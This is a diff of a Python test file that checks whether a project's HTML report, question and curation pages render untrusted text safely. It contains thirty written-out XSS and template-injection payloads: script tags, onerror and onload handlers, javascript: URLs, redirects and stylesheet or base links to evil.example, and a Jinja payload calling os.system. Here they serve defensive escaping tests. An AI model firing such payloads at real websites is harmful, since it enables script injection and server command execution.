@@ -1,127 +1,170 @@
-"""Thirty attacks in what a model wrote: the pages have the same elements as with harmless text, and say it verbatim."""
+"""Whatever text strangers write - labels, paths, ids, questions, rationales, categories - stays text on every page."""
 
 from __future__ import annotations
 
-import io
+import re
 from collections.abc import Callable
+from typing import Any
 
 import numpy as np
 import pytest
-from rich.console import Console
 
-from rbft.records import Curated, Question, Verdict
+from rbft.records import Curated, LeftOut, Question, Verdict
 from rbft.report.curation import render_curation
-from rbft.report.material import ArmAnswer, DroppedExample, ReportMaterial
+from rbft.report.material import ArmAnswer, DroppedExample, ExampleClip, LossCurve, ReliabilityBin, ReportMaterial
 from rbft.report.page import render_page
-from rbft.results import CurationReport, Leakage, RationaleReport, Report, StepUsage
-from rbft.serving.predictor import Answer, render_answers
+from rbft.report.questions import AskedExample, QuestionMaterial, Said, render_questions
+from rbft.results import (
+    CategoryReport,
+    Comparison,
+    CurationReport,
+    Estimate,
+    QuestionArm,
+    QuestionData,
+    QuestionReport,
+    QuestionScore,
+    QuestionSummary,
+    Report,
+    StepUsage,
+)
 
-ATTACKS = [
-    "<script>alert(1)</script>",
-    "<ScRiPt src=//evil.example></sCrIpT>",
-    '"><script>alert(1)</script>',
-    "'><script>alert(1)</script>",
-    "</p></blockquote><script>alert(1)</script>",
-    "</style><script>alert(1)</script>",
-    "</title><script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    '" onmouseover="alert(1)',
-    "' onfocus='alert(1)' autofocus='",
-    "<svg onload=alert(1)>",
-    "<svg><script>alert&#40;1&#41;</script></svg>",
-    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
-    "<iframe srcdoc='<script>alert(1)</script>'>",
-    "<object data=javascript:alert(1)>",
-    "<embed src=javascript:alert(1)>",
-    "<a href='javascript:alert(1)'>click</a>",
-    "<form action=javascript:alert(1)><input type=submit>",
-    "<body onload=alert(1)>",
-    "<details open ontoggle=alert(1)>",
-    "<video><source onerror=alert(1)></video>",
-    "<meta http-equiv=refresh content='0;url=//evil.example'>",
-    "<link rel=stylesheet href=//evil.example/x.css>",
-    "<base href=//evil.example/>",
-    "<!--><script>alert(1)</script-->",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "{{ 7 * 7 }}{% for x in () %}{% endfor %}${7*7}",
-    "<template><script>alert(1)</script></template>",
-    "\u003cscript\u003e\u202ealert(1)\u2028</script>",
-]
-HARMLESS = "a dog runs"
+PAYLOADS = [
+    "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>", '"><script>alert(1)</script>',
+    "'><script>alert(1)</script>", "</script><script>alert(1)</script>", "</title><script>alert(1)</script>",
+    "</style><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "--><script>alert(1)</script>",
+    "]]><script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><img src=x onerror="alert(1)">',
+    "' onmouseover='alert(1)", '" onfocus="alert(1)" autofocus="', "` onclick=`alert(1)`", "<svg/onload=alert(1)>",
+    "<svg><script>alert&#40;1&#41;</script>", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)></iframe>",
+    '<iframe srcdoc="<script>alert(1)</script>">', "<object data=javascript:alert(1)>", "<embed src=//evil.example>",
+    "<a href=javascript:alert(1)>x</a>", "javascript:alert(1)", "<form action=//evil.example><input type=submit>",
+    "<base href=//evil.example>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<link rel=stylesheet href=//evil.example>", "{{ cycler.__init__.__globals__.os.system('id') }}{% raw %}",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+]  # fmt: skip
+FORBIDDEN = {"script", "iframe", "object", "embed", "base", "form", "link", "input", "frame", "frameset", "applet"}
+POLICY = "default-src 'none'; style-src 'unsafe-inline'; img-src data:; base-uri 'none'; form-action 'none'"
+FRAMES = np.full((2, 12, 16, 3), 90, np.uint8)
 
 
-Shape = list[tuple[str, tuple[str, ...]]]
+def holds(page: Any, payload: str, images: int, clean: list[str]) -> None:
+    """No element and no attribute comes of the payload, it is there as text, and the page forbids scripts besides."""
+    tags = [tag for tag, _ in page.elements]
+    assert FORBIDDEN.isdisjoint(tags)
+    assert tags.count("img") == images
+    assert sorted(tags) == clean, "the same elements as with a harmless text of that length"
+    for tag, attributes in page.elements:
+        assert not [name for name in attributes if name.startswith("on") or name in ("srcdoc", "action", "autofocus")]
+        assert (attributes.get("href") or "#").startswith(("#", "./")), tag
+        assert (attributes.get("src") or "data:image/jpeg;base64,").startswith("data:image/jpeg;base64,")
+    metas = [meta for meta in page.all("meta") if meta.get("http-equiv")]
+    assert [(meta["http-equiv"], meta["content"]) for meta in metas] == [("Content-Security-Policy", POLICY)]
+    assert payload in page.text
 
 
-def shape(elements: list[tuple[str, dict[str, str | None]]]) -> Shape:
-    """What a page is built of: elements with the names of their attributes."""
-    return [(tag, tuple(attributes)) for tag, attributes in elements]
+def estimate() -> Estimate:
+    return Estimate(mean=0.5, low=0.4, high=0.6, per_seed=(0.5,))
 
 
-def report_page(text: str, report: Report, example_of: Callable) -> str:
-    leakage = Leakage(texts=9, names_label=0.5, majority=0.5, accuracy=1, auc=1, auc_masked=0.5, flagged=True)
-    counts = RationaleReport(written=9, kept=6, dropped={"refusal": 3}, refusals={text: (3, 1)}, leakage=leakage)
-    example = example_of(
-        0, ["dog", "cat"], ["rb-ft"], rationale=text, frames=np.zeros((16, 8, 8, 3), np.uint8),
-        verdict=Verdict(kept=False, reasons=("refusal",), detail=text),
-        arms={"rb-ft": ArmAnswer("dog", {"dog": 1.0, "cat": 0.0}, text=text)},
+def report_page(text: str, report: Report, *, figures: bool) -> str:
+    arm = report.arms["rb-ft"]
+    labels = {text: 3, "other": 4}
+    comparison = report.comparisons[0].model_copy(update={"a": text, "b": text, "verdict": text})
+    hostile = report.model_copy(
+        update={
+            "name": text, "headline": text, "baselines": {text: 0.5}, "comparisons": (comparison,),
+            "dataset": report.dataset.model_copy(
+                update={"labels": labels, "train_labels": labels, "majority_label": text}
+            ),
+            "arms": {text: arm.model_copy(update={"f1": dict.fromkeys(labels, arm.accuracy), "stages": (text,)})},
+            "rationales": report.rationales and report.rationales.model_copy(update={"dropped": {text: 1}}),
+            "categories": {text: CategoryReport(clips=3, accuracy={text: estimate()})},
+            "timing": {text: 1.0}, "environment": {text: text}, "experiment": {text: text, "clips": [text]},
+            "fingerprints": {text: text}, "notes": (text,),
+        }
     )  # fmt: skip
-    dropped = [DroppedExample("clip", text, ("refusal",), text)]
+    clip = ExampleClip(
+        text, text, FRAMES, [0.0, 1.0], rationale=text, verdict=Verdict(kept=False, reasons=("empty",), detail=text),
+        arms={text: ArmAnswer(text, {text: 1.0, "other": 0.0}, text=text)},
+    )  # fmt: skip
     return render_page(
-        report.model_copy(update={"rationales": counts, "notes": (text,)}),
-        ReportMaterial(examples=[example], dropped_examples=dropped),
+        hostile,
+        ReportMaterial(
+            loss_curves=[LossCurve(text, text, 0, [(1, 1.0), (2, 0.5)])] if figures else (),
+            reliability={text: [ReliabilityBin(0.5, 0.5, 3)]} if figures else {},
+            examples=[clip],
+            dropped_examples=[DroppedExample(text, text, (text,), text)],
+            left_out=[LeftOut(clip_id=text, path=text, reason="empty", detail=text)],
+            artifacts={text: text.replace("/", "|")},
+        ),
+    )
+
+
+def question_page(text: str) -> str:
+    score = QuestionScore(questions=2, clips=1, ungraded=0, score=estimate(), unreadable=0.0, cut_off=0.0)
+    answers = QuestionSummary(
+        overall=score, over_categories=estimate(), kinds={"multiple choice": score}, categories={text: score}
+    )
+    arm = QuestionArm(seeds=(0,), stages=(text,), num_steps=1, checkpoint=text, answers=answers)
+    report = QuestionReport(
+        name=text, headline=text,
+        data=QuestionData(
+            train=1, cot=1, test=2, train_clips=1, test_clips=1, left_out=1, kinds={"multiple choice": 2}
+        ),
+        arms={text: arm},
+        comparisons=(
+            Comparison(
+                a=text, b=text, metric="score", difference=0.1, low=0.0, high=0.2, p=0.1, smallest_detectable=0.1,
+                verdict=text,
+            ),
+        ),
+        timing={text: 1.0}, environment={text: text}, experiment={text: text}, fingerprints={text: text}, notes=(text,),
+    )  # fmt: skip
+    question = Question(
+        question_id=text, clip_id=text, kind="multiple choice", text=text, options=(text, "b"), answer=text
+    )
+    return render_questions(
+        report,
+        QuestionMaterial(
+            examples=[AskedExample(question, FRAMES, [0.0, 1.0], {text: Said(text=text, answer=text, score=0.5)})],
+            left_out=[LeftOut(clip_id=text, path=text, reason="empty", detail=text)],
+            artifacts={text: text.replace("/", "|")},
+        ),
     )
 
 
 def curation_page(text: str) -> str:
-    question = Question(question_id="q", clip_id="c", kind="free-form", text=text, answer=text)
-    verdicts = (Verdict(kept=True), Verdict(kept=False, reasons=("wrong_answer",), detail=text))
-    items = [
-        Curated(
-            question=question, step="revise", representation=text, reasoned=text, think=f"{text}.", answer=text,
-            accuracy=0.5, verdict=verdict,
-        )
-        for verdict in verdicts
-    ]  # fmt: skip
     report = CurationReport(
-        name="x", read=2, represented=2, reasoned=2, revised=2, kept=1, dropped={"revise": {"wrong_answer": 1}},
-        kinds={"free-form": (2, 1)}, answers={text: (2, 1)},
-        usage={"reason": StepUsage(engine=text, answers=2, prompt_tokens=1, num_tokens=1, cost=None)},
-        revises=True, notes=(text,),
+        name=text, read=2, represented=1, reasoned=1, revised=1, kept=1, dropped={"represent": {text: 1}},
+        kinds={text: (2, 1)}, answers={text: (2, 1)}, revises=True, notes=(text,),
+        usage={text: StepUsage(engine=text, answers=1, prompt_tokens=1, num_tokens=1, cost=0.1)},
     )  # fmt: skip
+    question = Question(
+        question_id=text, clip_id=text, kind="multiple choice", text=text, options=(text, "b"), answer=text
+    )
+    items = [
+        Curated.model_construct(
+            question=question, representation=text, reasoned=text, think=f"{text} more", answer=text,
+            verdict=Verdict(kept=kept, reasons=() if kept else ("empty",), detail=text), steps=(),
+        )
+        for kept in (True, False)
+    ]  # fmt: skip
     return render_curation(report, items)
 
 
-def test_there_are_thirty() -> None:
-    assert len(set(ATTACKS)) == 30
-
-
-@pytest.fixture(scope="module")
-def shapes(small_report: Report, example_of: Callable, page_of: Callable) -> list[Shape]:
-    """Of both pages with harmless text."""
-    pages = report_page(HARMLESS, small_report, example_of), curation_page(HARMLESS)
-    return [shape(page_of(page).elements) for page in pages]
-
-
-@pytest.mark.parametrize("attack", ATTACKS)
-def test_a_text_of_a_model_adds_no_element_to_a_page(
-    attack: str, shapes: list[Shape], small_report: Report, example_of: Callable, page_of: Callable
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_a_page_has_no_element_that_a_stranger_wrote(
+    payload: str, report: Report, page_of: Callable[[str], Any]
 ) -> None:
-    pages = report_page(attack, small_report, example_of), curation_page(attack)
-    for page, harmless in zip(map(page_of, pages), shapes, strict=True):
-        assert shape(page.elements) == harmless
-        assert not page.all("script")
-        assert not [name for _, attributes in page.elements for name in attributes if name.startswith("on")]
-        assert attack in page.text
+    pages: dict[str, tuple[Callable[[str], str], int]] = {
+        "report": (lambda text: report_page(text, report, figures=payload is PAYLOADS[0]), 2),
+        "questions": (question_page, 2),
+        "curation": (curation_page, 0),
+    }
+    for render, images in pages.values():
+        twin = re.sub(r"[^\w .]", "x", payload)
+        harmless = sorted(tag for tag, _ in page_of(render(twin)).elements)
+        holds(page_of(render(payload)), payload, images, harmless)
 
 
-def test_a_text_of_a_model_does_not_steer_a_terminal() -> None:
-    """Escape sequences, a bell, a title, a link, a carriage return, and reading direction turned round."""
-    attack = "a\x1b[2J\x1b]0;title\x07\x1b]8;;http://evil.example\x1b\\link\rb\u202ec\x9b31m[bold red]d[/]"
-    file = io.StringIO()
-    answer = Answer(path=attack, label="dog", probabilities={"dog": 1.0}, log_probabilities={}, rationale=attack)
-    render_answers([answer], Console(file=file, width=4000, force_terminal=True, color_system=None))
-    told = file.getvalue()
-    assert "[bold red]d[/]" in told, "nothing is markup"
-    assert not set("\x1b\x07\r\u202e\x9b") & set(told.replace("\x1b[1m", "").replace("\x1b[0m", ""))
+def test_there_are_thirty() -> None:
+    assert len(set(PAYLOADS)) == 30
